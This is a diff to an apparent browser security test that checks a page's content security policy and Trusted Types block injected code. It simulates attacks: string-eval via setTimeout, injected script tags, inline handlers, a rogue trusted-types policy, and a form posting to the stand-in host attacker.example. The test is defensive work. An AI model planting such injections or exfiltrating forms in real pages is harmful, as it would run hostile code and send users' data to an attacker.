@@ -35,7 +35,7 @@ describe('a page that is attacked', () => {
       attempt('text as code', () => { setTimeout('ran.push(4)' as unknown as () => void); });
       attempt('text of a script', () => { const tag = document.createElement('script'); tag.text = 'ran.push(5)'; document.head.append(tag); });
       attempt('another policy', () => { (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes.createPolicy('mine', { createScriptURL: (url: string) => url }); });
-      // Attributes and addresses do not throw: they just do not run.
+      // Attributes, addresses and, but for Firefox, forms do not throw: they just do nothing.
       const button = document.createElement('button');
       attempt('handler', () => { button.setAttribute('onclick', 'ran.push(6)'); });
       button.click();
@@ -50,7 +50,7 @@ describe('a page that is attacked', () => {
       const form = document.createElement('form');
       form.action = 'https://attacker.example/';
       document.body.append(form);
-      form.submit();
+      attempt('form', () => { form.submit(); });
       await new Promise((resolve) => { setTimeout(resolve, 500); });
       return { outcome, sent, ran, at: location.href };
     });
@@ -58,7 +58,7 @@ describe('a page that is attacked', () => {
     assert.deepEqual(tried.ran, []);
     assert.equal(tried.sent, 'refused');
     assert.equal(tried.at, `${product.url}/user/login`);
-    const { handler: _silent, ...loud } = tried.outcome;
+    const { handler: _silent, form: _sometimes, ...loud } = tried.outcome;
     assert.deepEqual(Object.entries(loud).filter(([, result]) => result === 'done'), []);
     for (const directive of ['require-trusted-types-for', 'connect-src', 'frame-src', 'form-action', 'trusted-types']) {
       assert.ok(stopped.some((violation) => violation.includes(`: ${directive}`) || violation.includes('default-src')), `${directive} stopped nothing: ${stopped.join(' | ')}`);
